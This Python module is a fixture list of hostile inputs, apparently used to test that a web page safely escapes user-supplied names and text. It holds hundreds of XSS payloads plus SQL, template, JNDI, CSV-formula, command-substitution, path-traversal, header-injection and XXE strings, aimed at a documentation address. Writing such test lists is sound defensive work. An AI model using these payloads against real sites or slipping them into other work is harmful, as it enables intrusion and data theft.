"""What people write, in names and elsewhere, to break a page (A01 to A06). The address in them is for documentation."""

from __future__ import annotations

from itertools import product

TAKEN = "document.title='taken'"
CANARY = "http://192.0.2.1"

_SCRIPTS = (
    f"<script>{TAKEN}</script>", f"</script><script>{TAKEN}</script>", f"<ScRiPt>{TAKEN}</ScRiPt>",
    f"♥<script>{TAKEN}</script>", f"\U0001f525<script>{TAKEN}</script>\U0001f525",
    f"<script src={CANARY}/a.js></script>",
    f"<scr<script>ipt>{TAKEN}</script>", f"<script\n>{TAKEN}</script\n>", f"<script/x>{TAKEN}</script>",
    f"<script type=module>{TAKEN}</script>", f"<script>//\n{TAKEN}</script>", f"<<script>{TAKEN}//<</script>",
    f"<script>{TAKEN}", "<script>eval(name)</script>", f"<script defer>{TAKEN}</script>",
    f"<script nonce=a>{TAKEN}</script>", f"＜script＞{TAKEN}＜/script＞",
    f"<noscript><p title='</noscript><script>{TAKEN}</script>'>", f"<template><script>{TAKEN}</script></template>",
    f"</title><script>{TAKEN}</script>", f"</style><script>{TAKEN}</script>", f"</textarea><script>{TAKEN}</script>",
    f"</option></select><script>{TAKEN}</script>", f"--><script>{TAKEN}</script>", f"]]><script>{TAKEN}</script>",
)  # fmt: skip
_TAGS = (
    f"<img src={CANARY}/a.png>", f"<img srcset='{CANARY}/a.png 1x'>",
    f"<picture><source srcset={CANARY}/a.png></picture>",
    f"<iframe src={CANARY}>", f"<iframe src=javascript:{TAKEN}>", f"<iframe srcdoc='<script>{TAKEN}</script>'>",
    f"<iframe src='data:text/html,<script>{TAKEN}</script>'>", f"<frameset><frame src={CANARY}></frameset>",
    f"<object data={CANARY}>", f"<object data=javascript:{TAKEN}>", f"<embed src={CANARY}>",
    f"<embed src=javascript:{TAKEN}>",
    f"<video src={CANARY} autoplay>", f"<video poster={CANARY}/a.png>", f"<audio src={CANARY} autoplay>",
    f"<track src={CANARY}>", f"<link rel=stylesheet href={CANARY}/a.css>", f"<link rel=prefetch href={CANARY}>",
    f"<link rel=manifest href={CANARY}>", f"<link rel=icon href={CANARY}/a.ico>",
    f"<style>@import'{CANARY}/a.css'</style>",
    f"<style>*{{background:url({CANARY})}}</style>", "<style>*{display:none}</style>",
    f"<style>@font-face{{font-family:a;src:url({CANARY})}}*{{font-family:a}}</style>",
    f"<div style='background:url({CANARY})'>", "<div style='position:fixed;inset:0;z-index:99;background:red'>",
    f"<p style=behavior:url({CANARY})>", f"<table background={CANARY}/a.png>", f"<body background={CANARY}/a.png>",
    f"<base href={CANARY}/>", f"<meta http-equiv=refresh content=0;url={CANARY}>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{TAKEN}</script>'>",
    "<meta http-equiv=content-security-policy content=script-src>",
    f"<form action={CANARY}><button>Send</button></form>",
    f"<button formaction=javascript:{TAKEN}>x</button>", f"<button form=act formaction={CANARY}>x</button>",
    f"<input form=compose name=body value=taken><input type=image src={CANARY}>", f"<isindex action={CANARY}>",
    f"<svg><script>{TAKEN}</script></svg>", f"<svg><script href={CANARY}/a.js /></svg>",
    f"<svg><image href={CANARY}/a.png /></svg>",
    f"<svg><use href='{CANARY}/a.svg#x' /></svg>",
    f"<svg><a xlink:href=javascript:{TAKEN}><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{TAKEN}>",
    f"<svg><foreignObject><script>{TAKEN}</script></foreignObject></svg>",
    f"<math><mi xlink:href=javascript:{TAKEN}>x", f"<math><annotation-xml encoding=text/html><script>{TAKEN}</script>",
    f"<xml><x><![CDATA[<script>{TAKEN}</script>]]></x></xml>", "<plaintext>", "<xmp><b>", "<dialog open>taken</dialog>",
    "</textarea></p></bdi></main></body></html>", "</div></div></div></section></article>", "<marquee>taken</marquee>",
)  # fmt: skip
_EVENTS = (
    "img src=x onerror", "img/src/onerror", "image src=x onerror", "img src=`x` onerror", "svg/onload", "svg onload",
    "body onload", "body onpageshow", "iframe onload", "input autofocus onfocus", "select autofocus onfocus",
    "textarea autofocus onfocus", "button autofocus onfocus", "details open ontoggle", "marquee onstart",
    "video onerror",
    "video><source onerror", "audio src=x onerror", "link rel=stylesheet href=x onerror", "object data=x onerror",
    "style onload", "script src=x onerror", "svg><animate onbegin", "svg><animate attributeName=x dur=1s onend",
    "div onmouseover", "p onpointerenter", "a href=# onfocus tabindex=1 autofocus", "form onsubmit", "x onclick",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", " jAvA\tscript:{}", "java\nscript:{}", "\x01javascript:{}", "javascript&colon;{}",
    "jAvA&#9;sCrIpT:{}",
    "&#106;avascript:{}", "javascript://%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD4={}", "view-source:javascript:{}", "feed:javascript:{}", "blob:{}",
)  # fmt: skip
_AROUND_LINKS = ("{}", "<a href='{}'>x</a>")
_ATTRIBUTES = (
    f'" onmouseover="{TAKEN}" x="', f"' autofocus onfocus='{TAKEN}' x='", f"x onerror={TAKEN}",
    f"` onerror={TAKEN} x=`",
    f'"><img src=x onerror="{TAKEN}">', f"'><img src=x onerror={TAKEN}>", f'"/><svg onload={TAKEN}>', f"';{TAKEN};'",
    f'";{TAKEN};"',
    f"\\';{TAKEN};//", f"${{{TAKEN}}}", f"`;{TAKEN};`", '" style="position:fixed;inset:0" x="', "'\"`<>&/\\=",
)  # fmt: skip
_ADDRESSES = (
    "//192.0.2.1/a", "https://192.0.2.1\\@brightbyte.example", "http://brightbyte.example@192.0.2.1/",
    "http:///192.0.2.1",
    "https://192.0.2.1/%22onmouseover=x", "https://192.0.2.1/'><b>", "https://192.0.2.1/?a=<script>",
    "http://[::1]/<b>",
    "https://ⓔxample.com/<b>", "[click](javascript:alert(1))", "![x](http://192.0.2.1/a.png)", "<http://192.0.2.1>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>", "{% for a in b %}{{ config }}{% endfor %}", "{{ ''.__class__.__mro__ }}",
    "{%- raw -%}{{ x }}", "{# a #}{{ x|safe }}", "%(who)s %s %d %n %x", "{0} {who} {who.__class__}",
    "${jndi:ldap://192.0.2.1/a}",
    "<?php echo 1 ?>", "<%@ page %>", "'; DROP TABLE staff; --", '" OR "1"="1', "1; SELECT pg_sleep(9)",
    "\" NEAR/2 *:* AND (",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "$(reboot) `reboot`", "../../../etc/passwd", "\r\nSet-Cookie: a=b",
)  # fmt: skip
_LETTERS = (
    "\\u003cscript\\u003e \\x3cb\\x3e", "&lt;script&gt; &#60;b&#62; &amp;amp;", "%3Cscript%3E %253Cb%253E",
    "+ADw-script+AD4-",
    "\u2028\u2029<b>\u2028</b>", "\u202egnp.exe\u202c <b>", "\u202e\u202e\u202enever closed",
    "\u2066\u2067\u2068<b>\u2069",
    "a" + "\u0316\u0301" * 12, "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466<b>",
    "W" + "o" * 28 + "w <b>",
    "\ufeff<b>\u200b\u200c\u200d\u2060</b>", "\u0430\u0435\u043e (Cyrillic) <b>", "\U000e0041\U000e0042 tags <b>",
    "\ufdfa\ufdfd <b>", "Ꙭ꙰<b>", "--><!-- ]]> <![CDATA[", "<!--#include file=a -->",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///a'>]>&y;",
)  # fmt: skip
LINES = (
    *_SCRIPTS, *_TAGS, *(f"<{event}={TAKEN}>" for event in _EVENTS),
    *(around.format(scheme.format(TAKEN)) for scheme, around in product(_SCHEMES, _AROUND_LINKS)),
    *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_LETTERS,
)  # fmt: skip
